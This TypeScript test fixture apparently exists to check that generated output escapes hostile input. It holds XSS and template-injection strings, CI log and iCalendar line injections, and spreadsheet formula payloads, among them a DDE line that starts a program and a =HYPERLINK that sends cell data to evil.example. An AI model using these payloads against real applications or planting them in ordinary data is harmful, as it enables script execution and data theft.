/** What would break out of one output format or another, if anywhere a text counted as more than text. */
const PIECES = [
  '"><pwn-ed pwned="1" onload="pwned()"></pwn-ed><script>alert(1);pwned()</script>',
  "</script></title></textarea>' onmouseover=pwned() pwned='",
  '<!--',
  '-->',
  ']]>',
  '<pwn-ed>',
  '&lt;pwn-ed&gt; &amp;',
  'javascript:pwned()',
  '{{7*7}}',
  '${7*7}',
  '<%= 7 %>',
  '\\u003c \\n',
  'url(//evil.example)',
  '%0A::error file=x::y',
  '%0D%0AEND:VEVENT',
  '##[error]',
  '; , \\; |',
  '#eval("1")',
  '#show[x]',
  '$x$',
  '*b*',
  '_c_',
  '`d`',
  '@e',
  '// f',
  '/* g',
  '[h](x:y)',
  '~',
];

/** What makes a formula, a command, a property or a tag of the text that begins with it. */
const BEGINNINGS = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '::error file=x::y',
  'BEGIN:VEVENT',
  '#eval("1")',
  '<pwn-ed>',
  '{{7*7}}',
  '# Đặc',
  '- Đặc',
  "'=1+1",
  '"=1+1"',
  '%0A',
  '\\',
  '"',
  "'",
  'Đặc'.repeat(60),
  'a\nBEGIN:VEVENT\nX-PWNED:1\n::error file=x::y\n=1+1',
];

/** A name of a file that is more than letters in addresses, attributes and style sheets. */
export const PHOTO = "' onload=pwned() {x}&$(y);.jpg";

/** What a camera wrote into the photo. */
export const CAMERA_MARK = 'PWNED-CAMERA';

/** A story in which everything that looks like code is a text. */
export const HOSTILE_STORY = [
  'Chữ &lt;script&gt;pwned()&lt;/script&gt; &#60;pwn-ed&#62; \\<pwn-ed onload=pwned()>',
  "a < b > c {pwned()} {{7*7}} ${7*7} <%= 7 %> import x from 'y' \"&gt;&lt;pwn-ed&gt;",
  '[liên kết](https://example.com/?q=%22%3E "x\\" onclick=\\"pwned()\\" pwned=\\"1")',
  '**đậm** &quot;&gt;&lt;img src=x onerror=pwned()&gt; #eval("1") $x$ =1+1 ::error::x %0A',
].join('\n\n');

/** A hostile text of its own in the place of a harmless one, of which it holds the words. */
export function spoiltText(harmless: string, key: string, number: number): string {
  if (/^(?:url|website|traceUrl)$/u.test(key)) return `${harmless}${QUERY}${number}`;
  if (key === 'email') return `='onmouseover=pwned()'{{x}}$x$#eval[x]${harmless}`;
  const beginning = BEGINNINGS[number % BEGINNINGS.length] ?? '';
  return `${beginning} n${number} ${harmless} ${PIECES.join(' ')}`;
}

const QUERY =
  "?q=\"><pwn-ed/onload=pwned()>'pwned='1'%0A%22{{x}}${x}]]>&a=b;c,d#\"><script>pwned()</script>";
